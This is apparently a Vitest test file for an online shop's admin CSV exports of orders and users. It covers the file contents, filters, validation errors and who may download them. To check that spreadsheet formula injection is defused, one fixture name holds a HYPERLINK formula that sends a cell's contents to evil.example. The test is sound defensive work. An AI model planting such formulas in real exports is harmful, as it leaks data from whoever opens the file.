import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createAdmin, createCustomer, type TestUser } from '../../../tests/support/accounts';
import { createTestApp, type TestApp } from '../../../tests/support/test-app';
import { API_ERRORS, formatOrderNumber, type Order } from '../../shared';
import { users } from '../db/schema';
import { insertOrderFixtures, insertStatedOrder } from './order-fixtures';
import { ORDERS_CSV_HEADER } from './orders-csv';
import { parseCsv } from '../lib/parse-csv';
import { USERS_CSV_HEADER } from './users-csv';

/** GET /api/orders.csv and GET /api/users.csv: what is in them, how hostile text is written, the filters, and who may have them. */
let t: TestApp;
let admin: TestUser;
let customer: TestUser;
let unconfirmed: TestUser;
let fixtures: Awaited<ReturnType<typeof insertOrderFixtures>>;
let hostile: Awaited<ReturnType<typeof insertStatedOrder>>;

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
  address: 'Flat 2, "The Old Mill"\r\nMill Lane, Leeds',
  phone: '+1 555 0100',
  tool: '@Tool, "Deluxe"; really',
};

beforeAll(async () => {
  t = await createTestApp();
  admin = await createAdmin(t.app, t.database.db, 'Ada Admin');
  customer = await createCustomer(t.app, 'Cora Customer');
  unconfirmed = await createCustomer(t.app, 'Una Unconfirmed', { verified: false });
  fixtures = await insertOrderFixtures(t.database.db, customer.userId);
  hostile = await insertStatedOrder(t.database.db, customer.userId, {
    name: HOSTILE.name,
    email: 'hostile@example.com',
    address: HOSTILE.address,
    phone: HOSTILE.phone,
    lines: [[HOSTILE.tool, 1234, 2], ['-Minus Tool', 100, 1]],
    state: 'pending',
    daysAgo: 0,
  });
}, 60_000);
afterAll(() => t.close());

const get = (url: string, headers: Record<string, string> = bearer(admin)) => t.app.inject({ method: 'GET', url, headers });
const today = () => new Date().toISOString().slice(0, 10);

/** The export's records after its header, checked to be the header it should have. */
function rowsOf(body: string, header: readonly string[]): string[][] {
  const [head, ...rows] = parseCsv(body);
  expect(head).toEqual([...header]);
  return rows;
}

describe('GET /api/orders.csv', () => {
  it('is a CSV download of every order that is never cached', async () => {
    const res = await get('/api/orders.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="orders-${today()}.csv"`);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body.startsWith('\uFEFFOrder number,Placed at (UTC),Status,')).toBe(true);
    expect(res.body.endsWith('\r\n')).toBe(true);
    const rows = rowsOf(res.body, ORDERS_CSV_HEADER);
    expect(rows).toHaveLength(7);
    expect(rows.every((row) => row.length === ORDERS_CSV_HEADER.length)).toBe(true);
  });

  it('writes one row per order: number, times in UTC, state, buyer, lines, total in dollars, payment, shipment and SKUs', async () => {
    const fox = fixtures.get('fox')!;
    const walter = fixtures.get('walter')!;
    const rows = rowsOf((await get('/api/orders.csv?sort=number&dir=asc')).body, ORDERS_CSV_HEADER);
    expect(rows.find((row) => row[0] === formatOrderNumber(fox.number))).toEqual([
      formatOrderNumber(fox.number),
      fox.createdAt.toISOString(),
      'Shipped',
      'Fox Mulder',
      'fox@fbi.example',
      '555-0100',
      '1 Test Street, Springfield',
      '1 × Soldering Station; 3 × Wire Stripper',
      '95.00',
      fox.paidAt!.toISOString(),
      fox.transactionId!,
      fox.shippedAt!.toISOString(),
      'UPS',
      '1Z999AA10123456784',
      // The lines' SKUs, in the Lines column's order.
      'SS-80W; WS-10',
      // Untaxed (placed before tax by destination): the subtotal is the total; no destination kept.
      '95.00',
      '0.00',
      '',
      '',
      'no',
      '',
      // Not refunded: no refund date or amount.
      '',
      '',
    ]);
    // An order from before SKUs: none to give.
    expect(rows.find((row) => row[0] === formatOrderNumber(walter.number))).toEqual([
      formatOrderNumber(walter.number),
      walter.createdAt.toISOString(),
      'Unpaid',
      'Walter Skinner',
      'skinner@fbi.example',
      '555-0100',
      '1 Test Street, Springfield',
      '1 × Bench Vise',
      '120.00',
      '',
      '',
      '',
      '',
      '',
      '',
      '120.00',
      '0.00',
      '',
      '',
      'no',
      '',
      // Not refunded: no refund date or amount.
      '',
      '',
    ]);
    // In the words Manage Orders' filter shows, not the database's ("pending" read as unpaid).
    expect(rows.map((row) => row[2])).toEqual(['Paid — waiting to ship', 'Shipped', 'Unpaid', 'Expired', 'Refunded', 'Paid — waiting to ship', 'Paid — waiting to ship']);
    // A refunded order says when, and how much went back: its whole total.
    const monica = fixtures.get('monica')!;
    const refunded = rows.find((row) => row[0] === formatOrderNumber(monica.number))!;
    expect(refunded.slice(-2)).toEqual([monica.refundedAt!.toISOString(), '300.00']);
  });

  it('quotes commas, quotes and line breaks, and defuses what a spreadsheet would run as a formula', async () => {
    const res = await get(`/api/orders.csv?q=${formatOrderNumber(hostile.number)}`);
    const [row] = rowsOf(res.body, ORDERS_CSV_HEADER);
    expect(row).toEqual([
      formatOrderNumber(hostile.number),
      hostile.createdAt.toISOString(),
      'Paid — waiting to ship',
      `'${HOSTILE.name}`,
      'hostile@example.com',
      // A phone is no formula: written as typed, without a quote that would show in the cell.
      HOSTILE.phone,
      HOSTILE.address,
      `2 × ${HOSTILE.tool}; 1 × -Minus Tool`,
      '25.68',
      hostile.paidAt!.toISOString(),
      hostile.transactionId!,
      '',
      '',
      '',
      '',
      '25.68',
      '0.00',
      '',
      '',
      'no',
      '',
      // Not refunded: no refund date or amount.
      '',
      '',
    ]);
    // As the bytes go out: each field quoted when it must be, its quotes doubled, the record on one CSV line.
    expect(res.body).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")",hostile@example.com,+1 555 0100,`);
    expect(res.body).toContain(`,"Flat 2, ""The Old Mill""\r\nMill Lane, Leeds","2 × @Tool, ""Deluxe""; really; 1 × -Minus Tool",25.68,`);
  });

  const numbersOfList = async (query: string) =>
    ((await get(`/api/orders?limit=100${query ? `&${query}` : ''}`)).json() as Order[]).map((order) => order.number);

  it.each([
    '',
    'q=fbi',
    'q=DANA',
    'q=multimeter',
    'state=pending',
    'state=pending&sort=total&dir=asc',
    'sort=buyer',
    'sort=buyer&dir=desc',
    'sort=status',
    'sort=paid&dir=asc',
    'sort=total',
    'sort=number&dir=asc',
    'sort=placed&dir=asc',
    'q=nobody-at-all',
  ])('holds what the list holds, in its order, for ?%s (without its paging)', async (query) => {
    const res = await get(`/api/orders.csv?${query}&limit=1&offset=3`);
    expect(res.statusCode).toBe(200);
    expect(rowsOf(res.body, ORDERS_CSV_HEADER).map((row) => row[0])).toEqual(await numbersOfList(query));
  });

  it('has its header alone when nothing matches', async () => {
    const res = await get('/api/orders.csv?q=zzyzx');
    expect(res.body).toBe(`\uFEFF${ORDERS_CSV_HEADER.join(',')}\r\n`);
  });

  it.each([
    ['?sort=price', 'sort', 'sort must be one of placed, number, total, buyer, status, paid'],
    ['?dir=sideways', 'dir', "dir must be 'asc' or 'desc'"],
    ['?q=a&q=b', 'q', 'q must be text'],
    ['?state=lost', 'state', 'state must be one of unpaid, pending, shipped, expired, refunded'],
    ['?email=dana', 'email', 'Provide a valid email'],
  ])('refuses %s with 400 naming the parameter, as JSON', async (query, field, message) => {
    const res = await get(`/api/orders.csv${query}`);
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ status: 400, detail: message, errors: [{ field, detail: message }] });
  });
});

describe('GET /api/users.csv', () => {
  it('lists every account, oldest first, with its role, confirmation, orders and what its paid orders came to', async () => {
    const [stranger] = await t.database.db
      .insert(users)
      .values({ id: 'user-hostile-name', name: '-2+3 Hostile, "Name"', email: 'hostile.name@example.com', emailVerified: true })
      .returning();
    const res = await get('/api/users.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="customers-${today()}.csv"`);
    expect(res.headers['cache-control']).toBe('no-store');
    const rows = rowsOf(res.body, USERS_CSV_HEADER);
    const joined = (row: string[]) => row[4]!;
    expect(rows.map(joined)).toEqual(rows.map(joined).sort());
    const byEmail = new Map(rows.map((row) => [row[1], row]));
    expect(byEmail.get(admin.email)).toEqual(['Ada Admin', admin.email, 'admin', 'yes', expect.stringMatching(/^\d{4}-\d\d-\d\dT/), '0', '0.00']);
    // Seven orders; paid and kept: 50.00 + 95.00 + 50.00 + 25.68 (the refunded 300.00 went back, the others were never paid).
    expect(byEmail.get(customer.email)).toEqual(['Cora Customer', customer.email, 'customer', 'yes', expect.any(String), '7', '220.68']);
    expect(byEmail.get(unconfirmed.email)).toEqual(['Una Unconfirmed', unconfirmed.email, 'customer', 'no', expect.any(String), '0', '0.00']);
    expect(byEmail.get(stranger!.email)).toEqual(["'-2+3 Hostile, \"Name\"", stranger!.email, 'customer', 'yes', stranger!.createdAt.toISOString(), '0', '0.00']);
    expect(rows).toHaveLength(4);
  });
});

describe('who may export', () => {
  it.each(['/api/orders.csv', '/api/users.csv'])('%s: admins by bearer token or by their session cookie (a plain link)', async (url) => {
    expect((await get(url, bearer(admin))).statusCode).toBe(200);
    expect((await get(url, { cookie: admin.cookie })).statusCode).toBe(200);
  });

  it.each([
    ['/api/orders.csv', 'anonymous', null, 401, API_ERRORS.signInRequired],
    ['/api/orders.csv', 'a customer (token)', 'token', 403, API_ERRORS.forbidden],
    ['/api/orders.csv', 'a customer (cookie)', 'cookie', 403, API_ERRORS.forbidden],
    ['/api/users.csv', 'anonymous', null, 401, API_ERRORS.signInRequired],
    ['/api/users.csv', 'a customer (token)', 'token', 403, API_ERRORS.forbidden],
    ['/api/users.csv', 'a customer (cookie)', 'cookie', 403, API_ERRORS.forbidden],
  ] as const)('%s refuses %s with %d and no data', async (url, _who, how, status, message) => {
    const headers: Record<string, string> = how === 'token' ? bearer(customer) : how === 'cookie' ? { cookie: customer.cookie } : {};
    const res = await get(url, headers);
    expect(res.statusCode).toBe(status);
    expect(res.json()).toMatchObject({ status, detail: message });
  });
});
